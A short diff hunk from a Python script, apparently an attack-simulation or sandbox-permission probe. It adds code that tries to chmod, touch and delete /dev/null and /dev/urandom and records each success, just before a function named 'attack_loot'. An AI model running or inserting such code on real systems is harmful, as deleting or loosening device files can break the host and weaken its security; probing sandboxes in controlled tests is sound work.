@@ -19,6 +19,13 @@ for _place in _places:
             _found.append(_place)
         except OSError:
             pass
+for _device in ("/dev/null", "/dev/urandom"):
+    for _act in (lambda device: os.chmod(device, 0o666), lambda device: os.utime(device), lambda device: os.unlink(device)):
+        try:
+            _act(_device)
+            _found.append(_device)
+        except OSError:
+            pass
 
 
 def attack_loot():
